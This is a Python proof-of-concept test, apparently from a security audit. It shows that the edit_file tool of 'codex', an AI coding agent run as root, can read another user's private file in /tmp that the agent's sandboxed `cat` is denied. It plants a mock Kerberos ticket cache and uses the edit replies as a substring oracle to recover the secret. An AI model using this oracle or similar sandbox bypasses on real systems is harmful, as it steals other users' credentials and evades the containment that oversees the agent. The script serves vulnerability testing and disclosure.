#!/usr/bin/env python3
"""01: codex run as root (CI, containers) reads a file-tool target in its own process with
root's CAP_DAC_OVERRIDE, while the sandboxed commands of the same session hold no capability.
model_file_refusal only asks "could a sandboxed command write this path?" by *policy*
(is_path_writable: inside a writable root such as /tmp), not whether the sandbox can actually
read it.  So another user's private file in /tmp (a Kerberos ticket cache /tmp/krb5cc_<uid>,
an ssh-agent dir's files, any 0600 file) -- which `cat` in the sandbox is denied -- is read
by codex before any approval, and edit_file's answers ("old_text was not found" / "no change")
are a substring oracle on it.  -s workspace-write -a never, run as root.
Exit 1 while vulnerable (the secret is recovered), 0 otherwise, 2 could not run."""
import json, os, shutil, subprocess, sys, tempfile, threading
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness

if os.geteuid() != 0:
    print("run as root (the CI case)"); sys.exit(2)
SECRET = "4c7e19ab"
ALPHA = "0123456789abcdef"
PREFIX = "TICKET="

root = tempfile.mkdtemp(prefix="a4-01-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
for d in (home, ch, ws):
    os.makedirs(d)
# another user's private file in /tmp (a writable root of workspace-write)
fd, target = tempfile.mkstemp(prefix="krb5cc_65534_", dir="/tmp")
os.write(fd, ("%s%s\n" % (PREFIX, SECRET)).encode()); os.close(fd)
os.chown(target, 65534, 65534); os.chmod(target, 0o600)

state = {"known": "", "i": 0, "n": 0, "phase": "cat", "cat": None}
lock = threading.Lock()

def decide(outs):
    with lock:
        s = state
        if s["phase"] == "cat":
            if not outs:
                return ("shell", {"command": ["cat", target]})
            s["cat"] = outs[-1]; s["phase"] = "oracle"
            last = None
        else:
            last = outs[-1]
        if last is not None:
            if "no change" in last:
                s["known"] += ALPHA[s["i"]]; s["i"] = 0
            else:
                s["i"] += 1
        if s["i"] >= len(ALPHA) or len(s["known"]) >= len(SECRET) or s["n"] > 200:
            return None
        guess = PREFIX + s["known"] + ALPHA[s["i"]]
        s["n"] += 1
        return ("edit_file", {"path": target, "old_text": guess, "new_text": guess})

srv = harness.serve(decide)
harness.write_config(ch, srv, 'file_tools = true\nsandbox_mode = "workspace-write"\napproval_policy = "never"')
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
try:
    p = subprocess.run([harness.CODEX, "exec", "--skip-git-repo-check", "-C", ws, "hi"], env=env,
                       capture_output=True, text=True, timeout=300)
except subprocess.TimeoutExpired:
    print("timeout"); sys.exit(2)
finally:
    srv.shutdown()
    os.unlink(target)
    shutil.rmtree(root, ignore_errors=True)
print("sandboxed `cat` of the file gave: %r" % (state["cat"] or "")[:200])
print("codex rc=%d, %d edit_file calls, recovered %r (secret %r)" % (p.returncode, state["n"], state["known"], SECRET))
if SECRET in (state["cat"] or ""):
    print("the sandbox itself can read the file: no finding on this machine"); sys.exit(2)
if state["known"] == SECRET:
    print("VULNERABLE: a file the sandbox cannot read was recovered through edit_file run by root codex")
    sys.exit(1)
print("held"); sys.exit(0)
